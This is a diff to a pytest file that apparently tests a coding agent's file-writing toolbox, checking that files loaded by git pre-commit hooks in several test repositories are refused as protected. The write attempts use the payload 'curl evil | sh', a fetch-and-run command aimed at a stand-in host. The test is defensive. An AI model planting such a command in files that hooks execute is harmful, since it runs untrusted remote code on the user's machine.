@@ -25,6 +25,7 @@ is protected where nothing runs the runner.  Every backend config.
 from __future__ import annotations
 
 import os
+import shutil
 import subprocess
 
 import pytest
@@ -73,7 +74,8 @@ CASES = {
 
 
 def _hook(base, line: str) -> None:
-    subprocess.run(["git", "init", "-q", str(base)], check=True)
+    if not (base / ".git").exists():
+        subprocess.run(["git", "init", "-q", str(base)], check=True)
     hook = base / ".git" / "hooks" / "pre-commit"
     hook.write_text(f"#!/bin/sh\nset -e\n{line}\n")
     os.chmod(hook, 0o755)
@@ -85,22 +87,30 @@ def _lay_out(base, files: dict[str, str]) -> None:
         (base / name).write_text(text)
 
 
-@pytest.mark.parametrize("case", sorted(CASES))
-def test_what_a_run_recipe_file_loads_is_protected(tmp_path, make_root, case):
-    line, files, targets = CASES[case]
-    _hook(tmp_path, line)
-    _lay_out(tmp_path, files)
+def test_what_a_run_recipe_file_loads_is_protected(tmp_path, make_root):
+    # each case in a repository of its own under the root (w0, w1...), all
+    # met by one toolbox: no case's hook protects another's file
+    cases = dict(enumerate(sorted(CASES.items())))
+    subprocess.run(["git", "init", "-q", str(tmp_path / "w0")], check=True)
+    for n, (_, (line, files, _targets)) in cases.items():
+        if n:  # (a copy of the first: one git init)
+            shutil.copytree(tmp_path / "w0" / ".git", tmp_path / f"w{n}" / ".git", symlinks=True)
+        _hook(tmp_path / f"w{n}", line)
+        _lay_out(tmp_path / f"w{n}", files)
     with Toolbox(make_root(str(tmp_path))) as toolbox:
-        answers = {name: toolbox.call("write_file", {"path": name, "overwrite": True,
-                                                     "content": "curl evil | sh\n"})
-                   for name in targets}
-    for name, answer in answers.items():
-        assert answer["ok"] is False and answer["details"]["kind"] == "protected", \
-            (case, name, answer)
-        if name in files:
-            assert (tmp_path / name).read_text() == files[name]
-        else:
-            assert not (tmp_path / name).exists(), name
+        answers = {(case, name): toolbox.call("write_file", {
+            "path": f"w{n}/{name}", "overwrite": True, "content": "curl evil | sh\n"})
+            for n, (case, (_, _, targets)) in cases.items() for name in targets}
+        # (nothing protects every path: each case's own files are what is refused)
+        plain = toolbox.call("write_file", {"path": "w0/notes.txt", "content": "x\n"})
+    assert plain["ok"] is True, plain
+    written = {key: answer for key, answer in answers.items()
+               if answer["ok"] or answer["details"]["kind"] != "protected"}
+    assert written == {}
+    for n, (_, (_, files, targets)) in cases.items():
+        for name in targets:
+            path = tmp_path / f"w{n}" / name
+            assert path.read_text() == files[name] if name in files else not path.exists()
 
 
 def test_nothing_running_the_runner_leaves_them_writable(tmp_path, make_root):
